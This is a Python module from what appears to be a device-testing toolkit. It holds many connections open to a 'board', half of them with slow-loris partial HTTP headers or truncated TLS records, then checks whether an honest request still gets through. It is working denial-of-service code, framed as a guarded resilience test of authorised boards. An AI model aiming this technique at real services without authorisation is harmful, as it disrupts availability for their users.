"""Exhaustion of a board's connections."""

import socket
import time
from contextlib import ExitStack, suppress
from urllib.parse import urlsplit

from kit.attacks.attack import Attack, Step, came_back, target
from kit.board.board import Board
from kit.errors import BoardError, KitError, interruptible
from kit.ota.exchange import CONNECT

# How a request begins that never ends ("slow loris"); over TLS a record that says it has 512 bytes
HALF = {"http": b"GET /info HTTP/1.1\r\nHost: 127.0.0.1\r\nAccept:", "https": b"\x16\x03\x01\x02\x00\x01"}
MOST = 100
NOTHING = "nothing"
TRIES = 3  # of the honest request: a browser asks again too


@interruptible
def exhaust(board: Board | str, connections: int = 20, *, confirm: bool = False) -> Attack:
    """Hold so many connections to a board, half of them silent and half with half a head, and ask it for its state.

    In the end all of them are closed.

    Raises:
        KitError: this board may not be attacked, or does not answer, or it is no number from 1 to 100.
    """
    web = target(board, confirm)
    if not isinstance(connections, int) or not 0 < connections <= MOST:
        raise KitError(f"{connections!r} is no number of connections.", f"Give one from 1 to {MOST}.")
    url = urlsplit(web.url)
    with ExitStack() as stack:
        for number in range(connections):
            try:
                line = stack.enter_context(socket.create_connection((url.hostname, url.port), CONNECT))
                line.sendall(HALF[url.scheme] if number % 2 else b"")
            except OSError:  # it holds no more
                break
        start, tries, answer = time.monotonic(), 0, NOTHING
        while answer == NOTHING and tries < TRIES:
            tries += 1
            with suppress(BoardError):
                answer = came_back(web.request("GET", "/info"))
        place = " on a virtual board" if getattr(board, "is_virtual", False) else ""
        measured = f"after {time.monotonic() - start:.1f} s, at try {tries}{place}"
    kinds = f"{connections} connections, half of them with half a head"
    steps = Step(kinds, "held, and closed again"), Step("meanwhile an honest GET /info", answer, measured)
    return Attack("Exhaustion of connections", steps, answer == NOTHING)
